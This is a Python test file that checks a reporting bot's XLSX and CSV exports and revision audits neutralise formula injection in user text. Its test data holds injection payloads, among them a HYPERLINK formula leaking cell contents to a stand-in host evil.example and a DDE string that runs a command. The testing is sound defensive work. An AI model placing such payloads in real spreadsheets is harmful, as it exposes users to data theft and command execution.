"""Issue 11, defect 5: user text never becomes a formula in the files the bot produces — the
compiled XLSX and CSV, and the /export revision audit (XLSX and CSV)."""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from reporting_forms.exports import export_csv, export_xlsx
from reporting_forms.exports.cells import csv_field
from reporting_forms.exports.revisions import revisions_csv, revisions_xlsx
from storage.compile_inputs import RevisionRow
from tests.test_compilation import build_catalog, compile_all, report

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Klikšķiniet")'
NASTY = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _formulas(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{c.coordinate}={c.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _texts(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }


def _csv_fields(data: bytes) -> list[str]:
    return [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]


def _unsafe(fields: list[str]) -> list[str]:
    return [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r") or (f[:1] == "-" and not _number(f))]


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def _revisions() -> list[RevisionRow]:
    at = dt.datetime(2026, 12, 1, 9, tzinfo=dt.UTC)
    return [
        RevisionRow(1, "1.1.1", "VPD", 2026, i + 1, nasty, at, "comment", nasty, "pending")
        for i, nasty in enumerate(NASTY)
    ]


def test_revision_export_xlsx_has_no_formulas() -> None:
    data = revisions_xlsx(_revisions(), lang="lv")
    assert _formulas(data) == []
    assert LINK in _texts(data)  # shown exactly as typed


def test_revision_export_csv_fields_are_neutralised() -> None:
    fields = _csv_fields(revisions_csv(_revisions(), lang="lv"))
    assert _unsafe(fields) == []
    assert "'" + LINK in fields


def test_compiled_exports_keep_reported_text_as_text() -> None:
    catalog = build_catalog()
    at = dt.datetime(2025, 12, 15, 9, tzinfo=dt.UTC)
    values = report("1.2.1", "IeVP", 2025, at, {"1.2.1.1": "done", "1.2.1.2": None}, texts={"1.2.1.2": LINK})
    compiled = compile_all(catalog, values)
    xlsx = export_xlsx(compiled, lang="lv")
    assert _formulas(xlsx) == []
    assert any(LINK in v for v in _texts(xlsx))
    fields = _csv_fields(export_csv(compiled, lang="lv"))
    assert _unsafe(fields) == []
    assert "'" + LINK in fields


def test_csv_field_rule() -> None:
    assert [csv_field(v) for v in NASTY] == ["'" + v for v in NASTY]
    assert [csv_field(v) for v in ("-5", "+1.5", "12", "", "a=b", 3, None)] == [
        "-5",
        "+1.5",
        "12",
        "",
        "a=b",
        3,
        None,
    ]
